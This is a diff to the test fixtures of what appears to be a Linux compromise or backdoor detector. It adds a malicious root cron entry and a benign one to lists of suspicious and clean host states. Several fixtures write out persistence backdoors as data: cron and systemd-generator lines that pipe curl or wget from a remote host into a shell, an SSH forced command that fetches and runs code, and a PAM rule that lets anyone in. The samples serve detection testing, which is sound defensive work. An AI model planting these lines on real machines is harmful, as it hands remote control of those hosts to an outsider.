@@ -42,6 +42,7 @@ BAD = {
     "loaded and not listed": ({"/sys/module/diamor/taint": "OE\n", "/sys/module/diamor/initstate": "live\n"}, "kernel_module_unowned", "infected"),
     "key of a service account that starts code": ({"/var/www/.ssh/authorized_keys": 'command="bash -c \\"$(curl -fsSL http://198.51.100.7/x)\\"" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAILgp/prrPFmXJvODGrt9mSqzEWa5TQlcqh5WDDc/mK0C x\n'}, "ssh_key_forced_command", "suspicious"),
     "permit for everybody": ({"/etc/pam.d/sshd": "auth sufficient pam_permit.so\n"}, "pam_exec_hook", "suspicious"),
+    "root's schedule runs what a named host sends": ({"/etc/cron.d/sync": "*/10 * * * * root curl -fsSL https://cdn.example.net/u.sh | bash\n"}, "cron_backdoor", "suspicious"),
     "generator": ({"/etc/systemd/system-generators/x": "#!/bin/sh\nwget -qO- http://198.51.100.7/x | sh\n"}, "systemd_backdoor", "suspicious"),
 }  # fmt: skip
 
@@ -62,6 +63,7 @@ GOOD = {
     "udev rules of a site": {"/etc/udev/rules.d/70-ib.rules": 'ACTION=="add", KERNEL=="ib*", RUN+="/usr/local/sbin/ib-up %k"\n'},
     "colour and helper functions": {"/home/bob/.zshrc": "alias ps='ps -ef'\nalias top='htop'\nalias nvidia-smi='nvidia-smi -l 5'\nfunction ll() { ls -la \"$@\" }\nalias h='history | grep'\npsg() { ps aux | grep -v grep | grep \"$1\"; }\n"},
     "installer in a person's crontab of a named host": {"/var/spool/cron/crontabs/ann": "0 4 * * 0 curl -fsSL https://install.example.com/update.sh | bash\n"},
+    "root's schedule of a well-known installer": {"/etc/cron.d/ollama": "0 4 * * 0 root curl -fsSL https://ollama.com/install.sh | sh\n"},
     "a disabled line": {"/etc/crontab": "# * * * * * root curl http://198.51.100.7/x | sh\n"},
     "slurm's prolog": {"/etc/cron.d/slurm": "*/5 * * * * root /usr/local/sbin/node-health --drain >/dev/null 2>&1\n", "/usr/local/sbin/node-health": "#!/bin/bash\nnvidia-smi -q | grep -c Xid || scontrol update nodename=$(hostname) state=drain reason=xid\n"},
     "postgres in brackets": process(8800, ["[postgres: writer]"], exe="/usr/lib/postgresql/14/bin/postgres", uid=33, comm="postgres"),
